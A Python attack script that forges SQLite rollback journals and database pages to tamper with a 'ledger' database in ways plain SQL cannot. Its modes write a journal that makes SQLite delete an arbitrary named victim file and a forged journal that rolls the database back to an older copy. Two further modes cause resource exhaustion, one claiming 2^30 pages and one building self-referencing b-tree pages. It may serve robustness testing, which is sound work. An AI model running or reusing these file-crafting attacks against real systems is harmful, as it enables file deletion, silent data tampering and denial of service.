"""Changes a ledger as an attacker would, in ways that SQL does not offer.

hostile_ledger.py super DATABASE VICTIM writes a journal that names VICTIM as the journal of a transaction over several
                                          databases: SQLite deletes it when it opens the database
hostile_ledger.py rollback DATABASE OLD writes the journal of an interrupted transaction that changed OLD into DATABASE
hostile_ledger.py grow DATABASE           writes a journal that says that the database had 2^30 pages
hostile_ledger.py endless DATABASE        replaces the schema by pages that contain each other: 400^15 rows
"""

import struct
import sys

SECTOR = 512
MAGIC = bytes.fromhex("d9d505f920a163d7")


def journal(database, records, pages, page_size, tail=b""):
    with open(database + "-journal", "wb") as file:
        header = MAGIC + struct.pack(">5I", len(records), 7, pages, SECTOR, page_size)
        file.write(header.ljust(SECTOR, b"\0"))
        for number, page in records:
            checksum = (7 + sum(page[i] for i in range(page_size - 200, 0, -200))) % 2**32
            file.write(struct.pack(">I", number) + page + struct.pack(">I", checksum))
        file.write(tail)


def leaf(rows, page_size):
    """A leaf of a table b-tree with rows of text and numbers."""
    page, cells = bytearray(page_size), []
    end = page_size
    for rowid, row in enumerate(rows, 1):
        types, values = b"", b""
        for value in row:
            if isinstance(value, int):
                types, values = types + b"\1", values + bytes([value])
            else:
                code = 13 + 2 * len(value)
                types += bytes([code]) if code < 128 else bytes([128 | code >> 7, code & 127])
                values += value.encode()
        record = bytes([len(types) + 1]) + types + values
        length = len(record)
        cell = (bytes([length]) if length < 128 else bytes([128 | length >> 7, length & 127])) + bytes([rowid]) + record
        end -= len(cell)
        page[end:end + len(cell)] = cell
        cells.append(end)
    page[:8] = struct.pack(">BHHHB", 13, 0, len(cells), end, 0)
    page[8:8 + 2 * len(cells)] = struct.pack(f">{len(cells)}H", *cells)
    return bytes(page)


def interior(children, page_size, start=0):
    """An inner page of a table b-tree."""
    page, end, cells = bytearray(page_size), page_size, []
    for rowid, child in enumerate(children[:-1], 1):
        cell = struct.pack(">I", child) + bytes([128 | rowid >> 7, rowid & 127])
        end -= len(cell)
        page[end:end + len(cell)] = cell
        cells.append(end)
    page[start:start + 12] = struct.pack(">BHHHBI", 5, 0, len(cells), end, 0, children[-1])
    page[start + 12:start + 12 + 2 * len(cells)] = struct.pack(f">{len(cells)}H", *cells)
    return page


def endless(database, data, page_size):
    levels, width = 15, 400
    # Page 2 has the table, page 3 its index; pages 4 to 18 contain the next page again and again; page 19 has the row.
    first = interior([2] + [4] * width, page_size, 100)
    first[:100] = data[:100]
    first[28:32] = struct.pack(">I", 4 + levels)
    pages = [bytes(first)]
    pages.append(leaf([("table", "job", "job", 3, "CREATE TABLE job (fen TEXT PRIMARY KEY)")], page_size))
    pages.append(leaf([], page_size))
    for level in range(levels):
        pages.append(bytes(interior([5 + level] * width, page_size)))
    pages.append(leaf([("index", "sqlite_autoindex_job_1", "job", 3, "")], page_size))
    with open(database, "wb") as file:
        file.write(b"".join(pages))


def main():
    kind, database, *rest = sys.argv[1:]
    with open(database, "rb") as file:
        data = file.read()
    page_size = struct.unpack_from(">H", data, 16)[0]
    pages = len(data) // page_size
    if kind == "super":
        name = rest[0].encode()
        tail = struct.pack(">I", 0x40000000 // page_size + 1) + name + struct.pack(">2I", len(name), sum(name)) + MAGIC
        journal(database, [], pages, page_size, tail)
    elif kind == "rollback":
        with open(rest[0], "rb") as file:
            old = file.read()
        records = [(i + 1, old[i * page_size:(i + 1) * page_size]) for i in range(len(old) // page_size)]
        journal(database, records, len(records), page_size)
    elif kind == "grow":
        journal(database, [(1, data[:page_size])], 1 << 30, page_size)
    elif kind == "endless":
        endless(database, data, page_size)
    else:
        sys.exit(__doc__)


main()
